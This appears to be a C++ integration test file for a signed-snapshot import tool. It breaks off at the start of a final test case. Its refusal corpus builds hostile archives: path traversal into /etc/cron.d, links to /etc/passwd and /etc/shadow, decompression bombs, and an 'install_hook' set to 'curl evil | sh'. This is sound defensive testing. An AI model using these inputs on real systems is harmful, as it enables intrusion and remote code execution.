// Snapshot import end to end: airheal-snapshot on the "connected side" (its own GnuPG home),
// airhealctl import on the appliance side (only the public key in common), and the refusal
// corpus: every malformed, hostile or stale snapshot is refused with one precise reason and
// leaves the store, the registry and the advisory database exactly as they were.
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <fstream>
#include <functional>
#include <sstream>
#include <thread>

#include "core/fs.hpp"
#include "support/snapshot_fixtures.hpp"
#include "support/test_support.hpp"

using namespace airheal;
using namespace airheal::test;
using nlohmann::json;
namespace fsys = std::filesystem;

namespace {

std::string osv_file(const std::string& id) {
  return *fs::read_file(fsys::path(AIRHEAL_SOURCE_DIR) / "tests/data/osv-go" / (id + ".json"),
                        1 << 20);
}

std::string describe(const std::vector<std::string>& argv, const ProcessResult& r) {
  std::string cmd;
  for (const auto& a : argv) cmd += a + " ";
  return cmd + "\nexit " + std::to_string(r.exit_code) + "\nstdout: " + r.out +
         "\nstderr: " + r.err;
}

// One appliance state directory plus the keys and tools around it.
struct World {
  TempDir tmp;
  fsys::path state = tmp / "state";
  Signer alice{tmp / "ga", "Alice"};
  Signer bob{tmp / "gb", "Bob"};
  Signer mallory{tmp / "gm", "Mallory"};
  ~World() {
    run({"gpgconf", "--homedir", (state / "trust" / "gnupg").string(), "--kill", "all"},
        std::chrono::seconds(20));
  }

  ProcessResult ctl(std::vector<std::string> args) {
    args.insert(args.begin(), {airhealctl_path().string(), "--state-dir", state.string()});
    return run(args, std::chrono::seconds(600));
  }
  ProcessResult ctl_ok(const std::vector<std::string>& args) {
    auto r = ctl(args);
    INFO(describe(args, r));
    REQUIRE(r.exit_code == 0);
    return r;
  }
  ProcessResult tool(std::vector<std::string> args) {
    args.insert(args.begin(), airheal_snapshot_path().string());
    auto r = run(args, std::chrono::seconds(600));
    INFO(describe(args, r));
    REQUIRE(r.exit_code == 0);
    return r;
  }
  void trust(const Signer& s, const std::string& channel = "stable",
             std::vector<std::string> extra = {}) {
    std::vector<std::string> args = {"trust", "add", s.write_public_key(tmp.path()).string(),
                                     "--channel", channel};
    args.insert(args.end(), extra.begin(), extra.end());
    ctl_ok(args);
  }
  fsys::path advisories_dir(const std::vector<std::string>& ids) {
    auto dir = tmp / ("adv-" + std::to_string(counter++));
    fsys::create_directories(dir);
    for (const auto& id : ids) std::ofstream(dir / (id + ".json")) << osv_file(id);
    return dir;
  }
  int counter = 0;
};

}  // namespace

TEST_CASE("a snapshot made on the connected side imports with only the public key in common",
          "[integration][snapshot]") {
  World w;
  auto img = make_oci_image(w.tmp / "layout", "v1", 2, 200 * 1024, 11);
  auto adv = w.advisories_dir({"GO-2024-2916", "GO-2024-3228"});
  auto file = w.tmp / "s1.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--expires", "30d", "--out",
          file.string(), "--advisories", adv.string(), "--image",
          (w.tmp / "layout").string() + "=library/app:1"});
  w.tool({"sign", file.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  w.tool({"verify", file.string(), "--keyring", w.alice.write_public_key(w.tmp.path()).string()});
  auto inspect = json::parse(w.tool({"inspect", file.string(), "--json"}).out);
  CHECK(inspect["channel"] == "stable");
  CHECK(inspect["images"][0]["digest"] == img.manifest_digest);

  // Nothing is trusted yet: refused, and the refusal is journalled.
  auto r = w.ctl({"import", file.string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("0 valid signature(s) by keys this appliance trusts") &&
                        Catch::Contains("no channel has trusted keys yet (airhealctl trust add") &&
                        Catch::Contains("the manifest was not read"));

  w.trust(w.alice);
  r = w.ctl_ok({"--json", "import", file.string()});
  auto res = json::parse(r.out);
  CHECK(res["already_imported"] == false);
  CHECK(res["signers"] == json({w.alice.fingerprint()}));
  CHECK(res["counts"]["advisories"] == 2);
  CHECK(res["counts"]["images"] == 1);

  // Again: a no-op with a clear message.
  r = w.ctl_ok({"import", file.string()});
  CHECK_THAT(r.out, Catch::Contains("already imported"));

  auto snaps = json::parse(w.ctl_ok({"--json", "snapshots"}).out);
  CHECK(snaps["channels"][0]["sequence"] == 1);
  CHECK(snaps["snapshots"][0]["signers"] == json({w.alice.fingerprint()}));
  auto show = json::parse(w.ctl_ok({"--json", "advisories", "show", "CVE-2024-22261"}).out);
  CHECK(show[0]["id"] == "GO-2024-2916");
  CHECK(show[0]["affected"][0]["package"] == "github.com/goharbor/harbor");
  w.ctl_ok({"store", "check"});
  auto journal = w.ctl_ok({"--json", "journal"}).out;
  CHECK_THAT(journal, Catch::Contains("snapshot.refused") && Catch::Contains("snapshot.accepted") &&
                          Catch::Contains("snapshot.duplicate"));
  w.ctl_ok({"journal", "--verify"});

  // The image is served by the registry, pullable with skopeo.
  if (!have_program("skopeo")) FAIL("skopeo is not installed (scripts/setup.sh installs it)");
  Daemon d(Daemon::Options{w.state, "", {}});
  auto out =
      run({"skopeo", "copy", "--src-tls-verify=false", "docker://" + d.address() + "/library/app:1",
           "oci:" + (w.tmp / "pulled").string() + ":x"},
          std::chrono::seconds(300));
  INFO(out.err);
  REQUIRE(out.exit_code == 0);
  auto pulled = json::parse(*fs::read_file(w.tmp / "pulled" / "index.json", 1 << 20));
  CHECK(pulled["manifests"][0]["digest"] == img.manifest_digest);
}

TEST_CASE("the refusal corpus: each bad snapshot gets one precise reason and changes nothing",
          "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  w.trust(w.mallory, "other");  // known to the appliance, but not for channel stable
  // A first, valid snapshot so that there is state to protect.
  make_oci_image(w.tmp / "layout", "v1", 1, 64 * 1024, 3);
  auto first = w.tmp / "s1.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", first.string(),
          "--advisories", w.advisories_dir({"GO-2024-2916"}).string(), "--image",
          (w.tmp / "layout").string() + "=library/base:1"});
  w.tool({"sign", first.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  w.ctl_ok({"import", first.string()});
  const auto before = state_fingerprint(w.state);

  const std::string adv_a = osv_file("GO-2024-3228"), adv_b = osv_file("GO-2024-2916");
  auto base = [&]() {
    Crafted c;
    c.manifest = manifest_skeleton("stable", 2);
    c.add("advisories/0/a.json", adv_a, "advisory", "osv");
    c.add("advisories/0/b.json", adv_b, "advisory", "osv");
    c.signers = {&w.alice};
    return c;
  };
  // Entries of 1 MiB and more in an uncompressed snapshot are copied file to file in the kernel
  // and hashed back from the stored copy: the same refusals must come out of that path.
  const std::string big = random_bytes(3u << 20, 5);
  auto add_big = [&](Crafted& c) { c.add("blobs/sha256/" + sha256_hex(big), big, "blob"); };
  struct Recipe {
    std::string name;
    std::function<void(Crafted&)> mutate;
    std::string expect;
    std::function<void(const fsys::path&)> post = {};
  };
  std::vector<Recipe> corpus = {
      {"bad signature (manifest altered after signing)",
       [&](Crafted& c) {
         c.signed_bytes = c.manifest.dump(2);
         c.manifest["sequence"] = 9;
       },
       "bad signature"},
      {"valid signature by an untrusted key", [&](Crafted& c) { c.signers = {&w.mallory}; },
       "is not trusted for channel stable"},
      {"unsigned", [&](Crafted& c) { c.signers.clear(); }, "not signed"},
      {"garbage signature",
       [&](Crafted& c) {
         c.signers.clear();
         c.extra_signatures = {
             {"signatures/x.asc",
              "-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n"}};
       },
       "signatures/x.asc"},
      {"path traversal",
       [&](Crafted& c) {
         c.body.push_back(RawEntry{"advisories/../../../etc/cron.d/x", "boom"});
       },
       "escapes the snapshot"},
      {"absolute path",
       [&](Crafted& c) {
         c.body.push_back(RawEntry{"/etc/cron.d/x", "boom"});
       },
       "absolute path"},
      {"symlink escape",
       [&](Crafted& c) {
         c.body[0] = RawEntry{"advisories/0/a.json", "", RawEntry::Type::symlink, "/etc/passwd"};
       },
       "is a symbolic link"},
      {"hardlink escape",
       [&](Crafted& c) {
         c.body[1] = RawEntry{"advisories/0/b.json", "", RawEntry::Type::hardlink, "/etc/shadow"};
       },
       "is a hard link"},
      {"device node",
       [&](Crafted& c) {
         c.body[1] = RawEntry{"advisories/0/b.json", "", RawEntry::Type::device};
       },
       "is a device node"},
      {"directory entry",
       [&](Crafted& c) {
         c.body.insert(c.body.begin(), RawEntry{"advisories", "", RawEntry::Type::directory});
       },
       "not a regular file"},
      {"duplicate entry", [&](Crafted& c) { c.body.push_back(c.body[0]); }, "appears twice"},
      {"stray entry",
       [&](Crafted& c) {
         c.body.push_back(RawEntry{"extra/payload.sh", "#!/bin/sh\n"});
       },
       "stray entry 'extra/payload.sh'"},
      {"missing entry", [&](Crafted& c) { c.body.pop_back(); }, "missing from the archive"},
      {"wrong hash", [&](Crafted& c) { c.body[0].data[10] ^= 1; }, "has sha256"},
      {"wrong size", [&](Crafted& c) { c.body[0].data += " "; }, "the manifest says"},
      {"wrong hash in a large entry",
       [&](Crafted& c) {
         add_big(c);
         c.body.back().data[1u << 20] ^= 1;
       },
       "has sha256"},
      {"a large entry with a wrong hash, then a stray entry: the first fault is the one reported",
       [&](Crafted& c) {
         add_big(c);
         c.body.back().data[7] ^= 1;
         c.body.push_back(RawEntry{"extra/payload.sh", "#!/bin/sh\n"});
       },
       "has sha256"},
      {"truncated inside a large entry", [&](Crafted& c) { add_big(c); }, "is truncated: ",
       [&](const fsys::path& f) { fsys::resize_file(f, fsys::file_size(f) - (1u << 20)); }},
      {"truncated archive", [&](Crafted& c) {}, "truncated",
       [&](const fsys::path& f) { fsys::resize_file(f, fsys::file_size(f) - 3000); }},
      {"decompression bomb in the manifest",
       [&](Crafted& c) {
         c.zstd = true;
         c.manifest_bytes = std::string(64u << 20, ' ');
       },
       "more than the limit"},
      {"decompression bomb in an entry",
       [&](Crafted& c) {
         c.zstd = true;
         c.body[0].data = std::string(256u << 20, '\0');
       },
       "the manifest says"},
      {"manifest not first",
       [&](Crafted& c) {
         c.manifest_first = false;
         c.signers.clear();
       },
       "first entry must be airheal-snapshot.json"},
      {"malformed manifest JSON",
       [&](Crafted& c) { c.manifest_bytes = "{\"format\": \"airheal-snapshot\", "; },
       "not valid JSON"},
      {"manifest with an unknown field",
       [&](Crafted& c) { c.manifest["install_hook"] = "curl evil | sh"; },
       "unknown field 'install_hook'"},
      {"newer format version", [&](Crafted& c) { c.manifest["version"] = 2; }, "upgrade airheal"},
      {"malformed OSV",
       [&](Crafted& c) {
         c = Crafted{};
         c.manifest = manifest_skeleton("stable", 2);
         c.add("advisories/0/bad.json",
               R"({"id":"GO-9999-0001","modified":"2024-01-01T00:00:00Z","affected":"everything"})",
               "advisory", "osv");
         c.signers = {&w.alice};
       },
       "malformed advisory"},
      {"expired",
       [&](Crafted& c) {
         c.manifest["created"] = "2020-01-01T00:00:00Z";
         c.manifest["expires"] = "2020-01-31T00:00:00Z";
       },
       "expired at 2020-01-31T00:00:00Z"},
      {"replayed older sequence",
       [&](Crafted& c) {
         c.manifest["sequence"] = 1;
         c.manifest["entries"].erase(1);
         c.body.pop_back();
       },
       "sequence 1 of channel stable was already accepted with different content"},
      {"broken chain",
       [&](Crafted& c) {
         c.manifest["previous"] = {{"sequence", 1}, {"digest", "sha256:" + std::string(64, 'e')}};
       },
       "broken chain"},
      {"unknown channel", [&](Crafted& c) { c.manifest["channel"] = "nobody"; },
       "channel 'nobody' has no trusted keys"},
      {"key unknown to the appliance", [&](Crafted& c) { c.signers = {&w.bob}; },
       "signed by unknown key " + w.bob.fingerprint()},
      {"image whose layer is not carried",
       [&](Crafted& c) {
         std::string layer_digest = "sha256:" + std::string(64, '1');
         json m{{"schemaVersion", 2},
                {"mediaType", "application/vnd.oci.image.manifest.v1+json"},
                {"config",
                 {{"mediaType", "application/vnd.oci.image.config.v1+json"},
                  {"digest", layer_digest},
                  {"size", 2}}},
                {"layers", json::array()}};
         auto bytes = m.dump();
         c.add("blobs/sha256/" + sha256_hex(bytes), bytes, "blob");
         c.manifest["images"] = {{{"repository", "evil/app"},
                                  {"tag", "1"},
                                  {"digest", "sha256:" + sha256_hex(bytes)},
                                  {"media_type", "application/vnd.oci.image.manifest.v1+json"}}};
       },
       "which the snapshot does not carry"},
  };

  // A sparse entry: GNU tar stores only the data around the holes. Made by GNU tar itself from a
  // file with a real hole, in both of its sparse encodings; the declared digest is the whole
  // file's.
  for (std::string format : {"posix", "gnu"})
    corpus.push_back(Recipe{"a sparse entry (GNU tar --sparse --format=" + format + ")",
                            [&](Crafted& c) {
                              std::string sparse(2u << 20, '\0');
                              sparse.replace(0, 5, "head!");
                              sparse.replace(sparse.size() - 5, 5, "tail!");
                              c.add("blobs/sha256/" + sha256_hex(sparse), sparse, "blob");
                            },
                            "is a sparse file",
                            [&, format](const fsys::path& file) {
                              auto dir = w.tmp / "sparse-tree";
                              fsys::remove_all(dir);
                              fsys::create_directories(dir);
                              run_ok({"tar", "-xf", file.string(), "-C", dir.string()});
                              auto names = run_ok({"tar", "-tf", file.string()}).out;
                              std::vector<std::string> order = {
                                  "tar", "--sparse",   "--format=" + format, "-cf", file.string(),
                                  "-C",  dir.string(), "--no-recursion"};
                              std::istringstream in(names);
                              for (std::string n; std::getline(in, n);) {
                                order.push_back(n);
                                auto p = dir / n;
                                if (fsys::is_regular_file(p) && fsys::file_size(p) == (2u << 20)) {
                                  fsys::remove(p);
                                  {
                                    std::ofstream o(p, std::ios::binary);
                                    o << "head!";
                                    o.seekp((2u << 20) - 5);  // the gap becomes a hole
                                    o << "tail!";
                                  }
                                }
                              }
                              run_ok(order);
                            }});
  for (const auto& recipe : corpus) {
    DYNAMIC_SECTION(recipe.name) {
      auto c = base();
      recipe.mutate(c);
      auto file = w.tmp / "bad.tar";
      c.write(file);
      if (recipe.post) recipe.post(file);
      auto r = w.ctl({"import", file.string()});
      INFO(recipe.name << "\nstderr: " << r.err << "\nstdout: " << r.out);
      CHECK(r.exit_code == 1);
      CHECK_THAT(r.err, Catch::Contains(recipe.expect));
      CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);  // one reason, one line
      CHECK(state_fingerprint(w.state) == before);
      auto journal = w.ctl_ok({"--json", "journal"}).out;
      auto last = json::parse(journal.substr(journal.rfind('\n', journal.size() - 2) + 1));
      CHECK(last["type"] == "snapshot.refused");
      CHECK_THAT(last["reason"].get<std::string>(), Catch::Contains(recipe.expect));
    }
  }
  // After the whole corpus the appliance still accepts the next good snapshot.
  auto good = base();
  auto file = w.tmp / "good.tar";
  good.write(file);
  w.ctl_ok({"import", file.string()});
  w.ctl_ok({"journal", "--verify"});
}

TEST_CASE(
    "large entries are copied file to file, checked from the stored copy, from any file system",
    "[integration][snapshot]") {
  // Same file system as the store (copy_file_range), and from tmpfs as removable media would be
  // another file system (copy_file_range refuses across them: sendfile).
  World w;
  w.trust(w.alice);
  auto img = make_oci_image(w.tmp / "layout", "v1", 3, 3u << 20, 21);
  auto file = w.tmp / "big.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file.string(), "--image",
          (w.tmp / "layout").string() + "=library/big:1"});
  w.tool({"sign", file.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  auto check_blobs = [&](const fsys::path& state) {
    for (const auto& d : img.layer_digests) {
      auto hex = d.substr(7);
      auto stored = fs::read_file(state / "blobs" / "sha256" / hex.substr(0, 2) / hex, 64u << 20);
      REQUIRE(stored);
      CHECK(stored->size() >= (1u << 20));  // big enough to take the copy path
      CHECK(sha256_hex(*stored) == hex);
      CHECK(*stored == *fs::read_file(w.tmp / "layout" / "blobs" / "sha256" / hex, 64u << 20));
    }
  };
  w.ctl_ok({"import", file.string()});
  w.ctl_ok({"store", "check"});
  check_blobs(w.state);

  if (!fsys::is_directory("/dev/shm")) FAIL("no /dev/shm (tmpfs) on this host");
  std::string tmpl = "/dev/shm/airheal-test-XXXXXX";
  REQUIRE(::mkdtemp(tmpl.data()) != nullptr);
  struct Remove {
    fsys::path p;
    ~Remove() {
      std::error_code ec;
      fsys::remove_all(p, ec);
    }
  } shm{tmpl};
  auto media = shm.p / "big.tar";
  fsys::copy_file(file, media);
  World other;
  other.trust(w.alice);
  auto res = json::parse(other.ctl_ok({"--json", "import", media.string()}).out);
  CHECK(res["counts"]["images"] == 1);
  other.ctl_ok({"store", "check"});
  check_blobs(other.state);
}

TEST_CASE("thresholds, revocation and replay", "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  w.trust(w.bob, "stable", {"--threshold", "2"});
  int seq = 1;
  auto make = [&](std::vector<const Signer*> signers, std::int64_t sequence) {
    Crafted c;
    c.manifest = manifest_skeleton("stable", sequence);
    c.add("advisories/0/a.json", osv_file("GO-2024-3228"), "advisory", "osv");
    c.signers = std::move(signers);
    auto f = w.tmp / ("s" + std::to_string(seq++) + ".tar");
    c.write(f);
    return f.string();
  };
  auto r = w.ctl({"import", make({&w.alice}, 1)});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains(
                        "1 valid signature(s) by keys trusted for channel stable, 2 required"));
  r = w.ctl({"import", make({&w.alice, &w.mallory}, 1)});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("2 required") &&
                        Catch::Contains("signed by unknown key " + w.mallory.fingerprint()));
  w.ctl_ok({"import", make({&w.alice, &w.bob}, 1)});
  auto s5 = make({&w.alice, &w.bob}, 5);
  w.ctl_ok({"import", s5});

  SECTION("an older sequence is a replay") {
    r = w.ctl({"import", make({&w.alice, &w.bob}, 3)});
    CHECK(r.exit_code == 1);
    CHECK_THAT(
        r.err,
        Catch::Contains(
            "replayed snapshot: channel stable is at sequence 5, this snapshot has sequence 3"));
  }
  SECTION("the same sequence with other content conflicts; the same file is a no-op") {
    Crafted c;
    c.manifest = manifest_skeleton("stable", 5);
    c.add("advisories/0/other.json", osv_file("GO-2024-2916"), "advisory", "osv");
    c.signers = {&w.alice, &w.bob};
    c.write(w.tmp / "conflict.tar");
    r = w.ctl({"import", (w.tmp / "conflict.tar").string()});
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err, Catch::Contains("already accepted with different content"));
    CHECK_THAT(w.ctl_ok({"import", s5}).out, Catch::Contains("already imported"));
  }
  SECTION("a key revoked by the operator no longer counts") {
    w.ctl_ok({"trust", "revoke", w.bob.fingerprint()});
    r = w.ctl({"import", make({&w.alice, &w.bob}, 6)});
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err,
               Catch::Contains("key " + w.bob.fingerprint() + " is revoked on this appliance"));
  }
  SECTION("a key revoked by its owner's revocation certificate no longer counts") {
    auto rev = w.tmp / "bob.rev";
    std::ofstream(rev) << w.bob.revocation_certificate();
    auto out = w.ctl_ok({"trust", "add", rev.string(), "--channel", "stable"});
    CHECK_THAT(out.out, Catch::Contains("revoked " + w.bob.fingerprint()));
    r = w.ctl({"import", make({&w.alice, &w.bob}, 6)});
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err, Catch::Contains("key " + w.bob.fingerprint() + " is revoked"));
    CHECK_THAT(w.ctl_ok({"trust", "list"}).out, Catch::Contains("[REVOKED]"));
  }
}

TEST_CASE("key rotation arrives in a snapshot signed by the current threshold",
          "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  auto adv = w.advisories_dir({"GO-2024-3228"});
  auto bob_key = w.bob.write_public_key(w.tmp.path());
  auto s = [&](int n) { return (w.tmp / ("r" + std::to_string(n) + ".tar")).string(); };
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", s(1), "--advisories",
          adv.string(), "--trust-keys", bob_key.string(), "--trust-add", w.bob.fingerprint(),
          "--trust-remove", w.alice.fingerprint()});
  // Signed by the incoming key only: refused, rotation needs the current signers.
  w.tool({"sign", s(1), "--key", w.bob.fingerprint(), "--gpg-home", w.bob.home().string()});
  auto r = w.ctl({"import", s(1)});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("signed by unknown key"));
  w.tool({"sign", s(1), "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  w.ctl_ok({"import", s(1)});
  auto trust = json::parse(w.ctl_ok({"--json", "trust", "list"}).out);
  REQUIRE(trust[0]["keys"].size() == 1);
  CHECK(trust[0]["keys"][0]["fingerprint"] == w.bob.fingerprint());

  w.tool({"create", "--channel", "stable", "--sequence", "2", "--out", s(2), "--advisories",
          adv.string()});
  w.tool({"sign", s(2), "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  r = w.ctl({"import", s(2)});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err,
             Catch::Contains("key " + w.alice.fingerprint() + " is not trusted for any channel"));
  w.tool({"sign", s(2), "--key", w.bob.fingerprint(), "--gpg-home", w.bob.home().string()});
  w.ctl_ok({"import", s(2)});
}

TEST_CASE("a delta carries only what the previous snapshot lacks",
          "[integration][snapshot][slow]") {
  World w;
  w.trust(w.alice);
  // Same seed: the v2 image shares its first three layers with v1 and adds a fourth.
  auto v1 = make_oci_image(w.tmp / "v1", "v1", 3, 1 << 20, 77);
  auto v2 = make_oci_image(w.tmp / "v2", "v2", 4, 1 << 20, 77);
  REQUIRE(v1.layer_digests[2] == v2.layer_digests[2]);
  auto adv = w.advisories_dir({"GO-2024-3228", "GO-2024-2916"});
  auto full1 = (w.tmp / "full1.tar").string(), full2 = (w.tmp / "full2.tar").string(),
       delta = (w.tmp / "delta2.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", full1, "--advisories",
          adv.string(), "--image", (w.tmp / "v1").string() + "=library/app:stable"});
  w.tool({"create", "--channel", "stable", "--sequence", "2", "--out", full2, "--advisories",
          adv.string(), "--image", (w.tmp / "v2").string() + "=library/app:stable"});
  auto made = json::parse(
      w.tool({"create", "--channel", "stable", "--sequence", "2", "--out", delta, "--advisories",
              adv.string(), "--image", (w.tmp / "v2").string() + "=library/app:stable",
              "--previous", full1, "--json"})
          .out);
  CHECK(made["bytes_left_out"].get<std::uint64_t>() > 3u * (1 << 20));
  CHECK(fsys::file_size(delta) * 3 < fsys::file_size(full2));
  auto diff = w.tool({"diff", full1, full2}).out;
  CHECK_THAT(diff, Catch::Contains("image library/app:stable updated"));

  for (const auto& f : {full1, delta})
    w.tool({"sign", f, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  // A delta cannot land before its base.
  auto r = w.ctl({"import", delta});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("broken chain"));
  w.ctl_ok({"import", full1});
  w.ctl_ok({"import", delta});
  w.ctl_ok({"store", "check"});
  Daemon d(Daemon::Options{w.state, "", {}});
  HttpClient http(d.host(), d.port());
  auto m = http.get("/v2/library/app/manifests/stable",
                    {{"Accept", "application/vnd.oci.image.manifest.v1+json"}});
  CHECK(m.status == 200);
  CHECK(m.header("docker-content-digest") == v2.manifest_digest);
  CHECK(json::parse(w.ctl_ok({"--json", "advisories", "show", "GO-2024-2916"}).out).size() == 1);
}

TEST_CASE("zstd snapshots, split into parts and joined, import, damaged parts are caught",
          "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  make_oci_image(w.tmp / "layout", "v1", 2, 300 * 1024, 5);
  auto file = w.tmp / "z.tar.zst";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--compress", "zstd", "--out",
          file.string(), "--image", (w.tmp / "layout").string() + "=library/z:1", "--advisories",
          w.advisories_dir({"GO-2024-3228"}).string()});
  w.tool({"sign", file.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  auto parts = w.tmp / "parts";
  fsys::create_directories(parts);
  auto listed = w.tool({"split", file.string(), "--size", "100K", "--out-dir", parts.string()}).out;
  CHECK(std::count(listed.begin(), listed.end(), '\n') >= 4);
  auto index = parts / "z.tar.zst.parts.json";
  auto joined = w.tmp / "joined.tar.zst";
  w.tool({"join", index.string(), "--out", joined.string()});
  w.ctl_ok({"import", joined.string()});

  // Flip one byte of one part: join refuses and writes nothing.
  auto part = parts / "z.tar.zst.part002";
  auto bytes = *fs::read_file(part, 1 << 20);
  bytes[100] ^= 0x40;
  REQUIRE(fs::write_file_atomic(part, bytes));
  auto r = run({airheal_snapshot_path().string(), "join", index.string(), "--out",
                (w.tmp / "again").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("part z.tar.zst.part002 is damaged"));
  CHECK_FALSE(fsys::exists(w.tmp / "again"));
}

TEST_CASE("verify on the connected side catches a flipped byte in a layer",
          "[integration][snapshot]") {
  World w;
  make_oci_image(w.tmp / "layout", "v1", 1, 128 * 1024, 9);
  auto file = (w.tmp / "s.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file, "--image",
          (w.tmp / "layout").string() + "=a/b:1"});
  w.tool({"sign", file, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  auto keys = w.alice.write_public_key(w.tmp.path()).string();
  w.tool({"verify", file, "--keyring", keys});
  auto other = w.mallory.write_public_key(w.tmp.path()).string();
  auto r = run({airheal_snapshot_path().string(), "verify", file, "--keyring", other});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("0 good signature(s)"));
  auto bytes = *fs::read_file(file, 1 << 24);
  bytes[bytes.size() / 2] ^= 1;  // inside the layer
  REQUIRE(fs::write_file_atomic(file, bytes));
  r = run({airheal_snapshot_path().string(), "verify", file, "--keyring", keys});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("has sha256"));
}

TEST_CASE("a full disk during staging refuses cleanly", "[integration][snapshot]") {
  if (!have_program("prlimit")) FAIL("prlimit (util-linux) is required");
  World w;
  w.trust(w.alice);
  make_oci_image(w.tmp / "layout", "v1", 1, 2 << 20, 21);
  auto file = (w.tmp / "big.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file, "--image",
          (w.tmp / "layout").string() + "=big/app:1"});
  w.tool({"sign", file, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  const auto before = state_fingerprint(w.state);
  // Files may not grow beyond 1 MiB: the 2 MiB layer cannot be staged (EFBIG, as ENOSPC would).
  auto r = run({"prlimit", "--fsize=1048576", airhealctl_path().string(), "--state-dir",
                w.state.string(), "import", file});
  INFO(r.err);
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("disk full while staging"));
  CHECK(state_fingerprint(w.state) == before);
  CHECK(fsys::is_empty(w.state / "staging"));
  w.ctl_ok({"import", file});  // room again: the same file imports
}

TEST_CASE("an import killed mid-way leaves nothing visible and can be retried",
          "[integration][snapshot][slow]") {
  World w;
  w.trust(w.alice);
  make_oci_image(w.tmp / "layout", "v1", 8, 8 << 20, 31);
  auto file = (w.tmp / "big.tar").string();
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", file, "--image",
          (w.tmp / "layout").string() + "=big/app:1"});
  w.tool({"sign", file, "--key", w.alice.fingerprint(), "--gpg-home", w.alice.home().string()});
  const auto before = state_fingerprint(w.state);
  pid_t pid = fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    execl(airhealctl_path().c_str(), "airhealctl", "--state-dir", w.state.c_str(), "import",
          file.c_str(), nullptr);
    _exit(127);
  }
  // Kill it as soon as staging has bytes in it.
  bool staged = false;
  for (int i = 0; i < 2000 && !staged; ++i) {
    std::error_code ec;
    for (const auto& e : fsys::recursive_directory_iterator(w.state / "staging", ec))
      if (e.is_regular_file() && e.file_size() > 0) staged = true;
    if (!staged) std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  kill(pid, SIGKILL);
  int status = 0;
  waitpid(pid, &status, 0);
  CHECK(staged);
  CHECK(state_fingerprint(w.state) == before);
  CHECK(json::parse(w.ctl_ok({"--json", "snapshots"}).out)["snapshots"].empty());
  w.ctl_ok({"import", file});
  CHECK(fsys::is_empty(w.state / "staging"));
  w.ctl_ok({"store", "check"});
}

TEST_CASE("the daemon imports from its watch folder and quarantines refusals",
          "[integration][snapshot]") {
  World w;
  w.trust(w.alice);
  Daemon d(Daemon::Options{w.state, "import:\n  poll_interval: 1s\n", {}});
  auto good = w.tmp / "good.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "1", "--out", good.string(),
          "--advisories", w.advisories_dir({"GO-2024-3228"}).string()});
  w.tool({"sign", good.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  auto bad = w.tmp / "bad.tar";
  w.tool({"create", "--channel", "stable", "--sequence", "2", "--out", bad.string(), "--advisories",
          w.advisories_dir({"GO-2024-2916"}).string()});
  w.tool({"sign", bad.string(), "--key", w.alice.fingerprint(), "--gpg-home",
          w.alice.home().string()});
  fsys::resize_file(bad, fsys::file_size(bad) - 1500);
  // Drop them in the way a careful operator would: copy beside, then rename in.
  fsys::copy_file(good, w.state / "import" / ".good.tar.tmp");
  fsys::rename(w.state / "import" / ".good.tar.tmp", w.state / "import" / "good.tar");
  fsys::copy_file(bad, w.state / "import" / "bad.tar");
  bool done = false;
  for (int i = 0; i < 300 && !done; ++i) {
    done = fsys::exists(w.state / "import" / "imported" / "good.tar") &&
           fsys::exists(w.state / "quarantine" / "bad.tar.reason.txt");
    if (!done) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  INFO(d.log());
  REQUIRE(done);
  CHECK(fsys::exists(w.state / "quarantine" / "bad.tar"));
  CHECK_THAT(*fs::read_file(w.state / "quarantine" / "bad.tar.reason.txt", 4096),
             Catch::Contains("truncated"));
  CHECK(json::parse(w.ctl_ok({"--json", "snapshots"}).out)["channels"][0]["sequence"] == 1);
  auto journal = w.ctl_ok({"--json", "journal"}).out;
  CHECK_THAT(journal, Catch::Contains("\"origin\":\"import-folder\""));
}

TEST_CASE("Debian packages and replacement binaries travel with their metadata",
          "[integration][snapshot]") {
  World w;
